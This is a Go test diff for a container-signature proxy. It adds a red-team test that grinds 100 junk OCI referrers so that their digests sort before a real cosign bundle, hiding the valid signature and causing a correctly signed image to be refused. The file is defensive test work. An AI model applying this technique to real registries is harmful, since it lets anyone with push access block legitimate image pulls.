@@ -9,8 +9,10 @@ import (
 	"os"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -230,5 +232,101 @@ func TestRedTeamJSONTarLayerInSignatureManifest(t *testing.T) {
 	}
 	if len(found) == 0 {
 		t.Errorf("skopeo copied the unsigned prod/app:v1 (%s) through the proxy into containers-storage:\n%s", evil.Digest, out)
+	}
+}
+
+// TestRedTeamJunkReferrersHideBundleSignature: cosign v3 signs with a
+// Sigstore bundle stored as an OCI 1.1 referrer. On a registry with the
+// referrers API (distribution 3, Harbor, zot, the cloud registries) anyone
+// who can push to the repository can add referrers to any digest: no tag
+// is overwritten, so immutable tags do not stop it. The proxy reads at
+// most 100 bundle referrers, the referrers API's first, and reports the
+// rest as "not read". So 100 junk bundle-typed referrers whose digests
+// sort before the real bundle's (cheap to grind: a nonce annotation) push
+// the real signature out of what is read, and the correctly signed image
+// is refused: containerd can no longer pull it. (docker-registry 2.8 has
+// no referrers API: a front in front of it answers the API as
+// distribution 3 does, listing every manifest whose subject is the digest,
+// in digest order.)
+//
+// Fails until junk referrers can no longer hide a valid bundle signature.
+func TestRedTeamJunkReferrersHideBundleSignature(t *testing.T) {
+	t.Parallel()
+	l := newGateLab(t)
+	const repo = "prod/app"
+	d := PushRandomImage(t, l.registry+"/"+repo+":v1")
+	l.signBundle(t, l.registry+"/"+repo+":v1")
+
+	// The real bundle referrer, as cosign sign --bundle listed it under
+	// the referrers tag.
+	var tagIndex struct {
+		Manifests []craftedDescriptor `json:"manifests"`
+	}
+	a := send(t, http.MethodGet, "http://"+l.registry+"/v2/"+repo+"/manifests/sha256-"+d.Hex, "Accept", string(types.OCIImageIndex))
+	if err := json.Unmarshal(a.body, &tagIndex); err != nil || len(tagIndex.Manifests) != 1 {
+		t.Fatalf("referrers tag of %s: %s (%v), want one bundle entry", repo, a, err)
+	}
+	real := tagIndex.Manifests[0]
+	realHex := strings.TrimPrefix(real.Digest, "sha256:")
+
+	// The attacker's referrers: bundle-shaped, subject the signed image,
+	// each ground until its digest sorts before the real bundle's.
+	self := craftedDescriptor{MediaType: string(types.DockerManifestSchema2), Digest: d.String(),
+		Size: int64(len(manifestBytes(t, l.registry+"/"+repo+"@"+d.String())))}
+	empty := l.raw.emptyConfig(repo)
+	layer := empty
+	layer.MediaType = bundleType
+	var junk []craftedDescriptor
+	for i, tries := 0, 0; len(junk) < 100 && tries < 200000; i++ {
+		tries++
+		m := craftedManifest{SchemaVersion: 2, MediaType: string(types.OCIManifestSchema1), ArtifactType: bundleType,
+			Config: &empty, Layers: &[]craftedDescriptor{layer}, Subject: &self,
+			Annotations: map[string]string{"nonce": strconv.Itoa(i)}}
+		body, err := json.Marshal(m)
+		if err != nil {
+			t.Fatal(err)
+		}
+		h, _, _ := v1.SHA256(bytes.NewReader(body))
+		if h.Hex >= realHex {
+			continue
+		}
+		e := l.raw.manifest(repo, "", m.MediaType, body)
+		e.ArtifactType = bundleType
+		junk = append(junk, e)
+	}
+	if len(junk) < 100 {
+		t.Skipf("could only grind %d junk referrers below %s", len(junk), real.Digest)
+	}
+
+	var attacked atomic.Bool
+	apiPath := "/v2/" + repo + "/referrers/" + d.String()
+	front := newUpstreamFront(t, l.registry, func(w http.ResponseWriter, r *http.Request) bool {
+		if r.URL.Path != apiPath {
+			return false
+		}
+		entries := []craftedDescriptor{real}
+		if attacked.Load() {
+			entries = append(entries, junk...)
+		}
+		slices.SortFunc(entries, func(a, b craftedDescriptor) int { return strings.Compare(a.Digest, b.Digest) })
+		body, _ := json.Marshal(referrersIndex(entries))
+		w.Header().Set("Content-Type", string(types.OCIImageIndex))
+		_, _ = w.Write(body)
+		return true
+	})
+
+	before := l.proxy(t, l.registry, front.host())
+	if a := send(t, http.MethodGet, manifestURL(before.addr, repo, "v1"), "Accept", manifestAccept); a.status != http.StatusOK {
+		t.Fatalf("before the attack, %s:v1 (bundle-signed) was answered %s, want 200", repo, a)
+	}
+
+	attacked.Store(true)
+	after := l.proxy(t, l.registry, front.host())
+	if a := send(t, http.MethodGet, manifestURL(after.addr, repo, "v1"), "Accept", manifestAccept); a.status != http.StatusOK {
+		t.Errorf("after 100 junk referrers were added, %s:v1 (bundle-signed, signature untouched) was answered %s, want 200", repo, a)
+	}
+	c := NewContainerdClient(t, Mirror{Proxy: after.addr, Upstream: l.registry})
+	if res, err := c.Pull(context.Background(), repo+":v1"); err != nil {
+		t.Errorf("ctr pull %s:v1 (bundle-signed) failed after junk referrers were added: %v\n%s", repo, err, lastLines(res.Output, 3))
 	}
 }
